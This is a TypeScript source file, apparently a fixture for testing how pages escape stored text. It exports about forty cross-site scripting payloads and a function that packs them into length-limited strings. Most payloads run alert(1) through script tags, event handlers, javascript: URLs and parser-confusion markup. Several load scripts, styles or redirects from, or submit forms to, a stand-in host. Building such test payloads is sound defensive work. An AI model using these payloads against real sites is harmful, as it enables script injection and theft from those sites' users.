/** What runs in a page that puts stored text into its markup, an address or a script. Each calls the host that no page may know. */
const HOST = 'https://fora.avenca.invalid'
const CALL = 'alert(1)'

export const PAYLOADS: readonly string[] = [
  `<script>${CALL}</script>`,
  `<script src=${HOST}/x.js></script>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `<ScRiPt>${CALL}</sCrIpT>`,
  `<img src=x onerror=${CALL}>`,
  `"><img src=x onerror=${CALL}>`,
  `' onmouseover='${CALL}`,
  `" autofocus onfocus="${CALL}`,
  `<img src=${HOST}/p.png>`,
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>`,
  `<iframe src=javascript:${CALL}></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data=javascript:${CALL}></object>`,
  `<embed src=${HOST}/x.swf>`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}>`,
  `<marquee onstart=${CALL}>`,
  `<link rel=stylesheet href=${HOST}/x.css>`,
  `<style>@import '${HOST}/x.css'</style>`,
  `<div style="background:url(${HOST}/x)">`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`,
  `<base href=${HOST}/>`,
  `<form action=${HOST}><button autofocus>x</button></form>`,
  `<a href=javascript:${CALL}>x</a>`,
  `javascript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<template><img src=x onerror=${CALL}></template><noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
]

/** As many of them as fit, beginning with that one: other rows begin elsewhere. */
export function packed(first: number, longest: number): string {
  const fitting: string[] = []
  let length = 0
  for (let at = 0; at < PAYLOADS.length; at += 1) {
    const payload = PAYLOADS[(first + at) % PAYLOADS.length] ?? ''
    if (length + payload.length + 1 > longest) continue
    fitting.push(payload)
    length += payload.length + 1
  }
  return fitting.join(' ')
}
